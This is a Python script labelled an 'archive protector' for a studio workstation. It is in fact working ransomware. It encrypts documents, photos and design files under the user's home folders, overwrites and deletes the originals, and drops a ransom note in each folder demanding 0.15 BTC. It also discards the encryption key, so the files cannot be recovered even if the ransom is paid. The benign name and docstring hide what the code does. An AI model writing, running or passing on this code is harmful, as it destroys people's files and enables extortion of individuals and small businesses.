#!/usr/bin/env python3
"""'Archive protector' for the studio workstation.

Encrypts the design folders so that "only the owner" can open them again.
"""
import argparse
import logging
import os
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("protector")

TARGET_EXT = {".docx", ".xlsx", ".pdf", ".jpg", ".jpeg", ".png", ".psd",
              ".ai", ".csv", ".txt", ".odt", ".pages", ".numbers"}
SKIP_DIRS = {".cache", ".local", "node_modules", ".git"}
NOTE = """Your wedding design files, contracts and photos have been encrypted.
To get them back before the season starts, send 0.15 BTC to the address below
and email recovery@example.org with your shop ID: {shop_id}
"""


class Protector:
    def __init__(self, key: bytes, dry_run: bool = False):
        self.fernet = Fernet(key)
        self.dry_run = dry_run
        self.count = 0

    def handle(self, path: Path) -> None:
        if path.suffix.lower() not in TARGET_EXT:
            return
        if self.dry_run:
            log.info("would lock %s", path)
            return
        data = path.read_bytes()
        locked = path.with_name(path.name + ".pvlock")
        locked.write_bytes(self.fernet.encrypt(data))
        with path.open("r+b") as fh:
            fh.write(os.urandom(len(data)))
        path.unlink()
        self.count += 1

    def walk(self, root: Path) -> None:
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
            for name in filenames:
                try:
                    self.handle(Path(dirpath) / name)
                except (PermissionError, OSError) as exc:
                    log.debug("skip %s: %s", name, exc)
            note = Path(dirpath) / "READ_ME_TO_RECOVER.txt"
            if not self.dry_run:
                note.write_text(NOTE.format(shop_id=os.environ.get("USER", "pv")))


def main() -> int:
    ap = argparse.ArgumentParser()
    ap.add_argument("roots", nargs="*", default=["~/Documents", "~/Pictures", "~/Desktop"])
    ap.add_argument("--dry-run", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    key = Fernet.generate_key()
    # Only a short key id stays on this machine; the full key is not kept.
    (Path.home() / ".pv_key_id").write_text(key.decode()[:8])

    prot = Protector(key, dry_run=args.dry_run)
    del key
    for root in args.roots:
        p = Path(root).expanduser()
        if p.is_dir():
            log.info("protecting %s", p)
            prot.walk(p)
    log.info("done, %d files locked", prot.count)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
